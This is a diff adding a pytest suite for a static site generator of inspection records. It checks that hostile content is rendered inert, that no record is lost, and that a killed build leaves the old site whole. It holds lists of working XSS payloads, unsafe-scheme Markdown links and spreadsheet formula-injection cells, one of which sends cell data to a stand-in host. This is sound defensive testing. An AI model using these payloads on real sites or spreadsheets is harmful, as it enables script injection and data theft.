@@ -1,0 +1,587 @@
+"""Hostile or broken input, and a build killed midway: nothing injected, nothing lost."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import functools
+import gzip
+import hashlib
+import http.server
+import json
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import threading
+import time
+import xml.etree.ElementTree as ET
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+import yaml
+from bs4 import BeautifulSoup
+from conftest import ENTRY, GOLDEN_CONTENT, ROOT, TODAY, build_site
+from conftest import write_content as write_content_folder
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sitegen import pipeline
+from sitegen.completeness import IncompleteSiteError, find_missing
+from sitegen.loading import load_archive, load_vocabulary_file
+from sitegen.markup import render_markdown
+from sitegen.pages import Page
+from sitegen.parsing import TextFile
+from sitegen.problems import Problem
+from sitegen.reading import ContentFiles, read_content
+from sitegen.timelines import Archive
+from sitegen.validation import Context, validate_entry
+
+SLUG = "neath-port-talbot"
+
+# OWASP filter-evasion examples and friends, each written where an editor could write it.
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
+    '<a href="&#106;&#97;vascript:alert(1)">entities</a>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    "<style>body{display:none}</style>",
+    '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)" x="',
+    "' onfocus='alert(1)' autofocus='",
+    "<!-- <script>alert(1)</script> -->",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<details open ontoggle=alert(1)>x</details>",
+    '<div style="background:url(javascript:alert(1))">styled</div>',
+    "{{ 7 * 7 }} {% raw %} ${7*7}",
+    '<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,x">data</a>',
+]
+
+# Markdown that tries links with unsafe schemes, inline and by reference.
+MARKDOWN = [
+    "[inline](javascript:alert(1))",
+    "[mixed case](JaVaScRiPt:alert(1))",
+    "[reference][evil]\n\n[evil]: javascript:alert(1)",
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[vb](vbscript:msgbox(1))",
+    "<javascript:alert(1)>",
+    "![tracker](https://evil.example/pixel.png)",
+    "![xss](javascript:alert(1))",
+    '[title break](https://example.org/ "a\\" onmouseover=\\"alert(1)")',
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    '<a href="https://example.org/" onclick="alert(1)" style="color:red">kept text</a>',
+    "`<script>alert(1)</script>` in code",
+]
+
+# Cells a spreadsheet would run as formulas.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+HOSTILE_AUTHORITY = {
+    "name": "Neath \"Port\" Talbot' onload='alert(1)",
+    "name_cy": "</script><script>alert(1)</script>",
+    "gss_code": "W06000012",
+    "website": 'https://www.npt.gov.uk/?q="><script>alert(1)</script>',
+}
+
+
+def _entry(number: int, title: str, text: str, body: str) -> tuple[str, str]:
+    """Return a hostile entry's file name and text, with the payload in every free field."""
+    data = {
+        "authority": SLUG,
+        "date": "2012-11-19",
+        "kind": "escalation",
+        "title": f"hostile {number} {title}",
+        "body": "CSSIW",
+        "inspection_type": text,
+        "legal_basis": text,
+        "findings": [text, FORMULAS[number % len(FORMULAS)]],
+        "recommendations": [text],
+        "sources": [
+            {
+                "title": text,
+                "publisher": text,
+                "date": "2012-11-19",
+                "url": "https://example.org/?q=\"><script>alert(1)</script>&x='onmouseover='a",
+            }
+        ],
+    }
+    if number == 0:
+        data["status"] = "serious-concern"
+    front = yaml.safe_dump(data, sort_keys=False, allow_unicode=True)
+    return f"2012-11-19-{SLUG}-hostile-{number}.md", f"---\n{front}---\n{body}\n"
+
+
+def hostile_entries() -> dict[str, str]:
+    """Return every hostile entry by file name."""
+    entries = {}
+    for number, payload in enumerate(PAYLOADS):
+        markdown = MARKDOWN[number % len(MARKDOWN)]
+        entries.update([_entry(number, payload, payload, f"{payload}\n\n{markdown}")])
+    for number, markdown in enumerate(MARKDOWN, len(PAYLOADS)):
+        entries.update([_entry(number, "markdown", "plain", markdown)])
+    for number, formula in enumerate(FORMULAS, len(PAYLOADS) + len(MARKDOWN)):
+        entries.update([_entry(number, formula, formula, f"{formula}\n\nSummary.")])
+    return entries
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Return a site built from a content folder full of hostile records."""
+    root = tmp_path_factory.mktemp("hostile")
+    authority = yaml.safe_dump(HOSTILE_AUTHORITY, sort_keys=False, allow_unicode=True)
+    content = write_content_folder(root, {f"{SLUG}.yaml": authority}, hostile_entries())
+    about = "\n\n".join(["## Corrections policy", *MARKDOWN, "## Scope", *PAYLOADS])
+    (content / "about.md").write_text(about, encoding="utf-8")
+    site = root / "site"
+    build_site(content, site)
+    return site
+
+
+def pages_of(site: Path) -> list[Path]:
+    """Return every HTML page of a site but Pagefind's own."""
+    return sorted(p for p in site.rglob("*.html") if p.relative_to(site).parts[0] != "pagefind")
+
+
+SAFE_SCHEMES = {"", "http", "https", "mailto"}
+URL_ATTRIBUTES = {
+    "href", "src", "action", "formaction", "poster", "data", "srcset", "background",
+    "cite", "xlink:href", "ping", "manifest",
+}  # fmt: skip
+FORBIDDEN_ELEMENTS = {
+    "style", "iframe", "frame", "frameset", "form", "object", "embed", "applet", "math", "svg",
+    "base", "input", "button", "textarea", "select", "img", "video", "audio", "details",
+}  # fmt: skip
+SEARCH_SCRIPT = "/pagefind/pagefind-component-ui.js"
+
+
+def scheme(url: str) -> str:
+    """Return a URL's scheme as a browser reads it: ASCII blanks and controls ignored."""
+    cleaned = re.sub(r"[\x00-\x20]", "", url)
+    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
+    return match.group(1).lower() if match else ""
+
+
+def injections(html: str, *, scripts: tuple[str, ...] = ()) -> list[str]:
+    """Return every way an HTML text could run script, style the page or send data away."""
+    soup = BeautifulSoup(html, "html.parser")
+    found = []
+    for element in soup.find_all(True):
+        name = element.name.lower()
+        if name in FORBIDDEN_ELEMENTS:
+            found.append(f"<{name}> element")
+        if name == "script" and (element.get("src") not in scripts or element.string):
+            found.append(f"script {element.get('src')!r} {element.string!r}")
+        if name == "meta" and element.get("http-equiv", "").lower() not in (
+            "",
+            "content-security-policy",
+        ):
+            found.append(f"meta http-equiv={element.get('http-equiv')!r}")
+        for attribute, value in element.attrs.items():
+            values = value if isinstance(value, list) else [value]
+            if attribute.lower().startswith("on"):
+                found.append(f"<{name} {attribute}=...>")
+            if attribute.lower() == "style":
+                found.append(f"<{name} style=...>")
+            if attribute.lower() in URL_ATTRIBUTES:
+                found += [
+                    f"<{name} {attribute}={v!r}>" for v in values if scheme(v) not in SAFE_SCHEMES
+                ]
+    return found
+
+
+def test_hostile_records_are_inert_in_every_page(hostile_site: Path) -> None:
+    pages = pages_of(hostile_site)
+    assert len(pages) > len(hostile_entries())
+    for page in pages:
+        relative = page.relative_to(hostile_site).as_posix()
+        allowed = (SEARCH_SCRIPT,) if relative == "search/index.html" else ()
+        assert injections(page.read_text(encoding="utf-8"), scripts=allowed) == [], relative
+
+
+def test_hostile_text_is_shown_as_text(hostile_site: Path) -> None:
+    for number, payload in enumerate(PAYLOADS):
+        page = hostile_site / f"inspections/2012-11-19-{SLUG}-hostile-{number}/index.html"
+        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
+        assert soup.h1 is not None
+        assert soup.h1.get_text() == f"hostile {number} {payload}"
+    authority = hostile_site / f"authorities/{SLUG}/index.html"
+    main = BeautifulSoup(authority.read_text(encoding="utf-8"), "html.parser").main
+    assert main is not None
+    assert main["data-authority"] == HOSTILE_AUTHORITY["name"]
+
+
+def test_unsafe_markdown_links_lose_their_address(hostile_site: Path) -> None:
+    page = hostile_site / f"inspections/2012-11-19-{SLUG}-hostile-{len(PAYLOADS)}/index.html"
+    summary = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").select_one(".summary")
+    assert summary is not None
+    assert "inline" in summary.get_text()
+    assert all(not a.get("href") for a in summary.find_all("a"))
+
+
+def test_hostile_records_are_inert_in_the_feeds(hostile_site: Path) -> None:
+    atom = "{http://www.w3.org/2005/Atom}"
+    for feed in [hostile_site / "feed.xml", hostile_site / f"authorities/{SLUG}/feed.xml"]:
+        root = ET.parse(feed).getroot()
+        entries = root.findall(f"{atom}entry")
+        assert entries
+        for element in root.iter():
+            if element.tag == f"{atom}content":
+                assert element.get("type") == "html"
+                assert injections(element.text or "") == [], feed
+            if element.tag == f"{atom}link":
+                assert scheme(element.get("href", "")) in {"http", "https"}
+
+
+def test_hostile_records_are_plain_data_in_the_json(hostile_site: Path) -> None:
+    entries = json.loads((hostile_site / "data/entries.json").read_text(encoding="utf-8"))
+    titles = {entry["title"] for entry in entries["entries"]}
+    assert {f"hostile {n} {payload}" for n, payload in enumerate(PAYLOADS)} <= titles
+    authorities = json.loads((hostile_site / "data/authorities.json").read_text("utf-8"))
+    assert authorities["authorities"][0]["name"] == HOSTILE_AUTHORITY["name"]
+    for path in hostile_site.rglob("*.json"):
+        json.loads(path.read_text(encoding="utf-8"))
+
+
+def test_hostile_records_are_text_in_the_search_index(hostile_site: Path) -> None:
+    fragments = list((hostile_site / "pagefind/fragment").glob("*.pf_fragment"))
+    assert len(fragments) > len(PAYLOADS)
+    for fragment in fragments:
+        data = gzip.decompress(fragment.read_bytes()).removeprefix(b"pagefind_dcd")
+        record = json.loads(data)
+        # The index holds the page's text, not its markup: the title is the heading's text.
+        page = hostile_site / record["url"].strip("/") / "index.html"
+        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
+        assert soup.h1 is not None
+        assert record["meta"]["title"] == soup.h1.get_text()
+        # Pagefind escapes that text before its UI shows it (the browser test watches it).
+        shown = record["content"].replace("<", "&lt;").replace(">", "&gt;")
+        assert injections(shown) == [], record["url"]
+
+
+def test_csv_cells_never_start_a_formula(hostile_site: Path) -> None:
+    for name in ("entries.csv", "status-periods.csv"):
+        with (hostile_site / "data" / name).open(encoding="utf-8", newline="") as file:
+            rows = list(csv.reader(file))
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    with (hostile_site / "data/entries.csv").open(encoding="utf-8", newline="") as file:
+        by_id = {row["id"]: row for row in csv.DictReader(file)}
+    number = len(PAYLOADS) + len(MARKDOWN)
+    row = by_id[f"2012-11-19-{SLUG}-hostile-{number}"]
+    assert row["inspection_type"] == "'" + FORMULAS[0]
+    assert row["summary"] == "'" + FORMULAS[0] + "\n\nSummary."
+    assert row["title"] == f"hostile {number} {FORMULAS[0]}"
+
+
+# A real browser: no dialog opens and nothing is fetched from anywhere but the site.
+
+
+class _QuietHandler(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def served_hostile(hostile_site: Path) -> Iterator[str]:
+    """Serve the hostile site on 127.0.0.1; yield its base URL."""
+    handler = functools.partial(_QuietHandler, directory=str(hostile_site))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+def test_hostile_pages_run_nothing_in_a_browser(page, served_hostile: str) -> None:
+    dialogs: list[str] = []
+    outside: list[str] = []
+    errors: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on(
+        "request",
+        lambda request: (
+            None if request.url.startswith(served_hostile) else outside.append(request.url)
+        ),
+    )
+    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+    paths = [
+        "/",
+        f"/authorities/{SLUG}/",
+        "/about/",
+        "/data/",
+        *(f"/inspections/2012-11-19-{SLUG}-hostile-{n}/" for n in (0, 3, 4, 5, 10, 11, 23, 25)),
+    ]
+    for path in paths:
+        page.goto(served_hostile + path)
+        page.wait_for_load_state("load")
+        page.mouse.move(200, 300)
+        page.keyboard.press("Tab")
+    page.goto(served_hostile + "/search/")
+    page.locator("pagefind-input input").fill("hostile alert")
+    page.locator("pagefind-results a").first.wait_for()
+    page.mouse.move(300, 400)
+    assert page.locator("pagefind-results [onerror], pagefind-results script").count() == 0
+    page.wait_for_timeout(300)
+    assert dialogs == []
+    assert outside == []
+    assert errors == []
+
+
+# Property tests: whatever the front matter or body, a list of problems or a record.
+
+
+def _vocabulary_context() -> Context:
+    files = read_content(GOLDEN_CONTENT)
+    vocabulary, problems = load_vocabulary_file(files)
+    assert vocabulary is not None, problems
+    return Context(vocabulary, TODAY)
+
+
+CONTEXT = _vocabulary_context()
+FIELD_NAMES = [
+    "authority", "date", "kind", "title", "body", "status", "inspection_type", "fieldwork",
+    "legal_basis", "findings", "recommendations", "sources", "url", "publisher",
+]  # fmt: skip
+scalars = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(),
+    st.floats(allow_nan=True),
+    st.text(max_size=30),
+    st.sampled_from(["2012-11-19", "2012-13", "neath-port-talbot", "CSSIW", "https://x.y/"]),
+)
+keys = st.one_of(st.sampled_from(FIELD_NAMES), st.text(max_size=12))
+values = st.recursive(
+    scalars,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
+    max_leaves=20,
+)
+front_matters = st.dictionaries(keys, values, max_size=12)
+
+
+def _check_entry(text: str) -> None:
+    file = TextFile("content/inspections/2012-11-19-neath-port-talbot-x.md", text)
+    entry, problems = validate_entry(file, CONTEXT)
+    assert (entry is None) == bool(problems)
+    assert all(isinstance(problem, Problem) for problem in problems)
+    for problem in problems:
+        str(problem)
+    if entry is not None:
+        render_markdown(entry.summary)
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(front_matters, st.text(max_size=200))
+def test_random_front_matter_gives_problems_never_an_exception(data: dict, body: str) -> None:
+    front = yaml.safe_dump(data, allow_unicode=True)
+    _check_entry(f"---\n{front}---\n{body}\n")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=300), st.text(max_size=100))
+def test_random_text_files_give_problems_never_an_exception(front: str, body: str) -> None:
+    _check_entry(f"---\n{front}\n---\n{body}")
+    _check_entry(front + body)
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.one_of(
+            st.text(max_size=40),
+            st.sampled_from(PAYLOADS + MARKDOWN),
+            st.sampled_from(["[", "](", ")", "<", ">", "&#", ";", "javascript:", "\n", "*", "`"]),
+        ),
+        max_size=12,
+    ).map("".join),
+    st.booleans(),
+)
+def test_random_markdown_renders_inert(body: str, headings: bool) -> None:
+    html = render_markdown(body, headings=headings)
+    assert injections(str(html)) == []
+
+
+def test_a_good_entry_is_still_valid_for_the_property_tests() -> None:
+    entry, problems = validate_entry(
+        TextFile(f"content/inspections/2012-11-19-{SLUG}-protocol.md", ENTRY), CONTEXT
+    )
+    assert problems == [] and entry is not None
+
+
+# Nothing lost: a plan that drops a record fails the build, naming the record.
+
+
+def _output(archive: Archive, *, hide: str = "") -> dict[str, bytes]:
+    """Return the pages the check reads, each authority page showing its entries."""
+    output = {}
+    for timeline in archive.timelines:
+        shown = "".join(
+            f'<article aria-labelledby="title-{entry.id}"></article>'
+            for entry in timeline.entries
+            if entry.id != hide
+        )
+        output[f"authorities/{timeline.authority.slug}/index.html"] = shown.encode()
+        for entry in timeline.entries:
+            output[f"inspections/{entry.id}/index.html"] = b""
+    return output
+
+
+@pytest.fixture(scope="module")
+def golden() -> tuple[ContentFiles, Archive]:
+    """Return the golden fixture's files and model."""
+    files = read_content(GOLDEN_CONTENT)
+    return files, load_archive(files, TODAY)
+
+
+BUG = "(the generator lost it: report this as a bug)"
+
+
+def test_a_complete_site_passes_the_check(golden: tuple[ContentFiles, Archive]) -> None:
+    files, archive = golden
+    assert find_missing(archive, _output(archive), files) == []
+
+
+def test_a_missing_page_or_hidden_entry_is_named(golden: tuple[ContentFiles, Archive]) -> None:
+    files, archive = golden
+    first, last = archive.entries[0], archive.entries[-1]
+    output = _output(archive, hide=last.id)
+    del output[f"inspections/{first.id}/index.html"]
+    page = f"authorities/{last.authority}/index.html"
+    assert [str(p) for p in find_missing(archive, output, files)] == [
+        f"{last.path}:1: page: is not shown on {page} {BUG}",
+        f"{first.path}:1: page: inspections/{first.id}/index.html was not made {BUG}",
+        f"inspections:1: entries: there are {len(files.entries)} entry files, but the "
+        f"authority pages show {len(files.entries) - 1} entries {BUG}",
+    ]
+
+
+def _build_with(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, stage: str, change: Callable
+) -> tuple[Problem, ...]:
+    """Build the golden fixture with one stage's result changed; return the problems."""
+    real = getattr(pipeline, stage)
+    monkeypatch.setattr(pipeline, stage, lambda *args, **kwargs: change(real(*args, **kwargs)))
+    site = tmp_path / "site"
+    with pytest.raises(IncompleteSiteError) as raised:
+        build_site(GOLDEN_CONTENT, site)
+    assert not site.exists()
+    return raised.value.problems
+
+
+def test_a_plan_that_drops_an_entry_page_fails_the_build(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, golden: tuple[ContentFiles, Archive]
+) -> None:
+    lost = golden[1].entries[0]
+
+    def drop(pages: tuple[Page, ...]) -> tuple[Page, ...]:
+        return tuple(p for p in pages if p.path != f"inspections/{lost.id}/index.html")
+
+    problems = _build_with(monkeypatch, tmp_path, "plan_pages", drop)
+    assert [str(p) for p in problems] == [
+        f"{lost.path}:1: page: inspections/{lost.id}/index.html was not made {BUG}"
+    ]
+
+
+def test_a_plan_that_hides_an_entry_from_its_authority_fails_the_build(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, golden: tuple[ContentFiles, Archive]
+) -> None:
+    timeline = next(t for t in golden[1].timelines if t.entries)
+    page = f"authorities/{timeline.authority.slug}/index.html"
+
+    def hide(pages: tuple[Page, ...]) -> tuple[Page, ...]:
+        return tuple(
+            Page(p.path, p.template, {**p.context, "entries": p.context["entries"][1:]})
+            if p.path == page
+            else p
+            for p in pages
+        )
+
+    problems = [str(p) for p in _build_with(monkeypatch, tmp_path, "plan_pages", hide)]
+    assert problems[-1].startswith("inspections:1: entries: there are")
+    assert f"{timeline.entries[-1].path}:1: page: is not shown on {page} {BUG}" in problems
+
+
+def test_a_record_skipped_by_the_model_fails_the_build(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, golden: tuple[ContentFiles, Archive]
+) -> None:
+    lost = golden[1].entries[0]
+
+    def skip(archive: Archive) -> Archive:
+        timelines = tuple(
+            dataclasses.replace(t, entries=tuple(e for e in t.entries if e.id != lost.id))
+            for t in archive.timelines
+        )
+        return dataclasses.replace(archive, timelines=timelines)
+
+    problems = _build_with(monkeypatch, tmp_path, "load_archive", skip)
+    assert [str(p) for p in problems] == [
+        f"{lost.path}:1: record: has no entry in the model {BUG}",
+        f"inspections:1: entries: there are {len(golden[0].entries)} entry files, but the "
+        f"authority pages show {len(golden[0].entries) - 1} entries {BUG}",
+    ]
+
+
+# A build killed at any moment leaves the previous site whole.
+
+
+def digest(site: Path, *, skip_search: bool = False) -> str:
+    """Return one hash over every file's path and bytes (Pagefind's index left out if asked)."""
+    total = hashlib.sha256()
+    for path in sorted(site.rglob("*")):
+        relative = path.relative_to(site).as_posix()
+        if path.is_file() and not (skip_search and relative.startswith("pagefind/")):
+            total.update(relative.encode() + b"\0" + path.read_bytes() + b"\0")
+    return total.hexdigest()
+
+
+def test_a_killed_build_leaves_the_previous_site_whole(tmp_path: Path) -> None:
+    content = shutil.copytree(ROOT / "content", tmp_path / "content")
+    site = tmp_path / "site"
+    command = [
+        sys.executable, str(ROOT / "build.py"), "build",
+        "--today", TODAY.isoformat(), "--site", str(site), "--content", str(content),
+    ]  # fmt: skip
+    subprocess.run(command, check=True, capture_output=True, cwd=ROOT)
+    before, pages_before = digest(site), digest(site, skip_search=True)
+    delay, kills, completed = 0.05, 0, False
+    while not completed and delay < 30:
+        process = subprocess.Popen(
+            command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
+        )
+        time.sleep(delay)
+        if process.poll() is None:
+            process.send_signal(signal.SIGKILL)
+            kills += 1
+        completed = process.wait() == 0
+        # Killed or finished, site/ is one whole site: the old one, or (once swapped) the new.
+        assert digest(site, skip_search=True) == pages_before, f"after {delay:.2f}s"
+        now = digest(site)
+        if not completed and now != before:
+            # Killed after the swap itself: the new site is in place, whole, and is the new
+            # baseline (Pagefind's index differs from run to run).
+            assert json.loads((site / "pagefind/pagefind-entry.json").read_text())
+            before = now
+        delay *= 1.4
+    assert completed and kills >= 3
+    assert (site / "index.html").is_file() and (site / "pagefind/pagefind-entry.json").is_file()
+    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("site.new-")) == [
+        "content",
+        "site",
+    ]
